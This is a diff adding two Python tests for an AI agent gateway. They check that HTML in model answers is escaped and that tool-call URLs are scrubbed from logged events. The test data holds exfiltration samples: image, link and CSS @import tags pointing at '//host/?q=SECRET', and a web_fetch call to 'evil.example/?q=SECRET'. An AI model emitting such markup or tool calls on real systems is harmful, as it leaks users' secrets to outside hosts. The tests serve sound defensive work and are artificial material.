@@ -84,6 +84,39 @@ async def test_links_in_bound_answers_are_taken_out_and_json_stays_json(start: S
     }
 
 
+async def test_html_in_bound_answers_loads_nothing(start: Start) -> None:
+    said = {
+        "a": "<img src=//host/?q=SECRET> <a\nhref='//host/S'> <img/src=x> <STYLE>@import '//host/S'</STYLE> <svg>",
+        "b": "<p>List<String> a<b, x <3 <br/> <br> </p> <!-- x --> <T, U>",
+    }
+    here = await place(start, "quick_research", scripts={"answer": json.dumps(said)})
+    body = (await here.gateway.chat(response_format={"type": "json_object"})).json()
+    text = json.loads(body["choices"][0]["message"]["content"])
+    assert text["a"] == (
+        "&lt;img src=//host/?q=SECRET> &lt;a\nhref='//host/S'> &lt;img/src=x> "
+        "&lt;STYLE>@import '//host/S'</STYLE> &lt;svg>"
+    )
+    assert text["b"] == said["b"]
+
+
+async def test_arguments_of_tools_in_events_lead_nowhere(start: Start) -> None:
+    turns = [
+        {
+            "action": "call",
+            "tool": "web_fetch",
+            "arguments": json.dumps({"url": f"https://evil.example/?q=SECRET {EVIL[0]}", "n": 1}),
+        },
+        {"action": "call", "tool": "web_fetch", "arguments": json.dumps({"url": READ})},
+        {"action": "answer", "tool": "", "arguments": ""},
+    ]
+    scripts: dict[str, Any] = {"complex_tools": lambda request: turns.pop(0) if turns else turns}
+    here = await place(start, "complex", scripts=scripts)
+    fields = {"messages": [{"role": "user", "content": f"Read {READ}"}]}
+    body = (await here.gateway.chat(**fields)).json()
+    params = [event["payload"]["params"] for event in body["shannon_events"] if event["type"] == "TOOL_INVOKED"]
+    assert params[:2] == [{"url": "[address removed] [x]([address removed])", "n": 1}, {"url": READ}]
+
+
 async def test_titles_of_sources_are_no_markdown(start: Start) -> None:
     here = await place(start, "quick_research")
     here.fetch.found = lambda arguments: _titled(arguments.url)  # type: ignore[method-assign]
